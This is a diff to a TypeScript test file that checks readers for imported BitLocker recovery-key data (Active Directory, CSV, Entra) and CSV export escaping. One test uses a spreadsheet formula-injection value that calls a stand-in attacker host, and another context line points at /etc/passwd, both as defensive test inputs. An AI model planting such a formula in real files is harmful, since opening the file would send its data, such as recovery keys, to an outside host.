@@ -1,12 +1,15 @@
 /** The readers of the four sources: every record is read or named with its line, whatever the encoding and the chunks. */
 import { describe, expect, it } from 'vitest';
 import { IMPORT_SOURCES, type ImportSource } from '../../shared/domain/vocabulary.ts';
+import { EXPORT_HEADER, exportRow } from '../../shared/export/csv.ts';
+import type { Candidate } from '../../shared/helpdesk/messages.ts';
 import { ActiveDirectoryReader } from '../../shared/import/active-directory.ts';
 import { EntraReader } from '../../shared/import/entra.ts';
 import { mbamReader } from '../../shared/import/mbam.ts';
 import { ImportFormatError, type ImportItem, type ImportReader } from '../../shared/import/record.ts';
 import { parseSiteRules } from '../../shared/import/sites.ts';
 import { SpreadsheetReader } from '../../shared/import/spreadsheet.ts';
+import { notText } from '../../shared/import/text.ts';
 import { CSV_MAP, type Encoding, sourceFile, trueKeys, truthOf } from './sources.ts';
 
 const RECORDS = 2_000;
@@ -136,6 +139,16 @@ describe('active-directory', () => {
     expect(reader.notices.otherEntries).toBe(1);
   });
 
+  it('notices that the file breaks off within a value, which may look like a whole one', () => {
+    const read = (content: string) => {
+      const reader = new ActiveDirectoryReader();
+      return { items: text(reader, content), cutOff: reader.notices.cutOff };
+    };
+    const whole = `${[...base, 'msFVE-KeyPackage:: AAAA'].join('\n')}\n`;
+    expect(read(whole)).toMatchObject({ items: [{ keyId: ID }], cutOff: false });
+    expect(read(whole.slice(0, -1))).toMatchObject({ items: [{ keyId: ID }], cutOff: true });
+  });
+
   it('follows no file that an attribute names', () => {
     expect(entry([...base, 'msFVE-KeyPackage:< file:///etc/passwd'])).toEqual([
       { line: 3, fault: 'malformed' },
@@ -159,6 +172,42 @@ describe('csv', () => {
       expect(() => csv(content)).toThrow(ImportFormatError);
     expect(() => csv('keyId,recoveryPassword\n', { map: { users: 'Owner' } })).toThrow(
       expect.objectContaining({ missing: ['users'] }) as Error,
+    );
+  });
+
+  it.each(['\r', '\n', '\r\n'])('ends lines at %j, in chunks of any size', (end) => {
+    const rows = [
+      'keyId,recoveryPassword,computer',
+      `${ID},${password},A`,
+      '',
+      `${ID},x,B`,
+      `${ID},${password},C`,
+    ];
+    const file = Buffer.from(rows.join(end));
+    for (const size of [1, 2, 5, 1_000]) {
+      const items = read(new SpreadsheetReader({ delimiter: null, map: {} }), file, size);
+      expect(items).toMatchObject([
+        { line: 2, computerName: 'A' },
+        { line: 4, fault: 'not-48-digits' },
+        { line: 5, computerName: 'C' },
+      ]);
+    }
+  });
+
+  it.each(['utf-16le', 'utf-16be'])('reads %s without a byte-order mark', (encoding) => {
+    const content = Buffer.from(`keyId,recoveryPassword,computer\r\n${ID},${password},Ñandú\r\n`, 'utf16le');
+    const file = encoding === 'utf-16le' ? content : content.swap16();
+    for (const size of [1, 2, 1_000])
+      expect(read(new SpreadsheetReader({ delimiter: null, map: {} }), file, size)).toMatchObject([
+        { keyId: ID, computerName: 'Ñandú' },
+      ]);
+  });
+
+  it('finds columns whose names have no Latin letters, and only those', () => {
+    const named = { keyId: 'Ключ', recoveryPassword: 'Пароль' };
+    expect(csv(`Пароль,Ключ\n${password},${ID}\n`, { map: named })).toMatchObject([{ keyId: ID }]);
+    expect(() => csv(`Дата,Время\n${password},${ID}\n`, { map: named })).toThrow(
+      expect.objectContaining({ missing: ['keyId', 'recoveryPassword'] }) as Error,
     );
   });
 
@@ -216,6 +265,37 @@ describe('entra', () => {
     const { items } = json(content);
     expect(items.map((item) => ('fault' in item ? item.fault : item.keyId))).toEqual(['malformed', ID]);
   });
+});
+
+it('brings back what an export made harmless for spreadsheets', () => {
+  const name = '=WEBSERVICE("https://evil.example/"&B2)';
+  const candidate = {
+    ...{ keyId: ID, commitment: '', deviceId: 'd-1', volumeId: ID, volumeType: 1, siteId: 'madrid' },
+    ...{
+      computerName: name,
+      domain: '@corp',
+      users: ['+ana', 'CORP\\luis'],
+      escrowedAt: 0,
+      state: 'present',
+    },
+  } as unknown as Candidate;
+  const file = EXPORT_HEADER + exportRow(candidate, password, null);
+  expect(file).toContain(`,"'=WEBSERVICE(`);
+  expect(file).toContain(`,'@corp,"'+ana;`);
+  expect(text(new SpreadsheetReader({ delimiter: null, map: {} }), file)).toMatchObject([
+    { computerName: name, domain: '@corp', users: ['+ana', 'CORP\\luis'] },
+  ]);
+});
+
+it.each([
+  ['gzip', [0x1f, 0x8b, 8, 0]],
+  ['zip', [0x50, 0x4b, 3, 4]],
+  ['binary', [0, 0, 0, 0, 1, 2]],
+  [null, [...Buffer.from('keyId,recoveryPassword')]],
+  [null, [...Buffer.from('keyId', 'utf16le')]],
+  [null, []],
+])('knows by its first bytes a file that is %s', (kind, bytes) => {
+  expect(notText(Uint8Array.from(bytes))).toBe(kind);
 });
 
 describe('site rules', () => {
